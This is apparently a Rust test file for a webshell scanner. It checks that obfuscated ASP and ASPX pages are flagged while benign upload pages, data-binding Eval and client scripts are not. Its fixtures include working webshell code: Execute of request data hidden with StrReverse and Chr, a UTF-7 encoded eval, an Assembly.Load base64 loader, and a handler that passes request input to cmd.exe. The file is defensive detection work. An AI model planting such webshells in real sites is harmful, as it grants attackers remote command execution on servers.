//! The normalising stage and the capability verdict through the public
//! scanner: pages written here from the languages' documented behaviour
//! (no sample's text), obfuscated the ways the languages allow.

use seawall_model::Severity;

use crate::{TempDir, builtin_scanner};

const CAPABILITIES: &str = "SW-WEBSHELL-CAPABILITIES";

fn verdict(name: &str, page: &[u8]) -> Option<Severity> {
    let scanner = builtin_scanner();
    let dir = TempDir::new("normalized");
    let path = dir.write(name, page);
    let outcome = scanner.scan_file(&path, &format!("C:\\inetpub\\wwwroot\\shop\\{name}"));
    outcome.findings.iter().filter(|f| f.rule.id == CAPABILITIES).map(|f| f.severity).max()
}

#[test]
fn request_reaching_execute_through_folded_and_renamed_code_is_a_webshell() {
    // Execute spelled with Chr codes and reversed, request data through a function result.
    let page = b"<%\r\nFunction k() : k = Request.Form(StrReverse(\"p\") & Chr(119)) : End Function\r\n\
                 Dim x : x = StrReverse(\"etucexE\")\r\nExecute k()\r\n%>";
    assert!(verdict("a.asp", page) >= Some(Severity::High));
}

#[test]
fn script_encoded_and_utf7_pages_are_read_decoded() {
    // "+AGUAdgBhAGw-" is UTF-7 for "eval"; IIS decodes CodePage 65000 pages before running them.
    let page = b"<%@ codepage=65000%><%+AGUAdgBhAGw-(Request.Item(\"z\"))%>";
    assert!(verdict("u.asp", page) >= Some(Severity::High));
}

#[test]
fn base64_loader_of_request_bytes_is_a_webshell_and_a_plain_upload_page_is_not() {
    let loader = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
                   byte[] d = Convert.FromBase64String(Request.Form[\"d\"]);\n\
                   System.Reflection.Assembly.Load(d).CreateInstance(\"P\").Equals(this);\n}\n</script>";
    assert!(verdict("l.aspx", loader) >= Some(Severity::High));
    let upload = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Save(object s, EventArgs e) {\n\
                   var f = Request.Files[0];\n\
                   f.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName));\n}\n</script>";
    assert!(verdict("u.aspx", upload) < Some(Severity::Medium));
}

#[test]
fn data_binding_eval_is_not_script_evaluation() {
    let page = b"<%@ Page Language=\"C#\" %><asp:Repeater runat=\"server\" ID=\"r\"><ItemTemplate>\
                 <%# Eval(\"Name\") %> <%# DataBinder.Eval(Container.DataItem, \"Price\") %></ItemTemplate></asp:Repeater>\
                 <% var q = Request.QueryString[\"q\"]; %>";
    assert_eq!(verdict("list.aspx", page), None);
}

#[test]
fn class_files_need_a_decisive_capability_or_a_high_score_and_client_scripts_are_not_server_code() {
    // An application's upload helper: the visitor's file lands in a folder it names, and the
    // class fetches other things too; on a page that pair is a medium verdict, in a class that
    // holds a whole application's APIs it is not.
    let class = "public class Media {\n\
                 public void Save(string name) { var f = new FileStream(\"c:\\\\media\\\\\" + Request.Form[\"dir\"] + name, FileMode.Create); }\n\
                 public byte[] Get(string u) { return new WebClient().DownloadData(u); }\n}";
    let helper = format!("using System;\nusing System.IO;\nusing System.Net;\nnamespace Blog.Core {{\n{class}}}\n");
    assert!(verdict("Media.cs", helper.as_bytes()) < Some(Severity::Medium));
    let page = format!("<%@ Page Language=\"C#\" %><script runat=\"server\">\n{class}\n</script>");
    assert!(verdict("media.aspx", page.as_bytes()) >= Some(Severity::Medium));
    // A class that runs what the request sends is still one.
    let backdoor = b"using System;\nusing System.Web;\nnamespace App {\npublic class H : IHttpHandler {\n\
                     public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request.Form[\"c\"]); }\n\
                     public bool IsReusable { get { return true; } }\n}}\n";
    assert!(verdict("H.cs", backdoor) >= Some(Severity::High));
    // A script library that says "namespace" is served to browsers, not run.
    let library =
        b"var lib = {}; // namespace for helpers\nlib.run = function(code) { return new Function(code)(); };\n\
                    lib.scope = { $eval: function(expr) { return eval(expr); } };\n\
                    var request = new XMLHttpRequest(); request.onload = function() { eval(request.responseText); };\n";
    assert_eq!(verdict("lib.js", library), None);
}
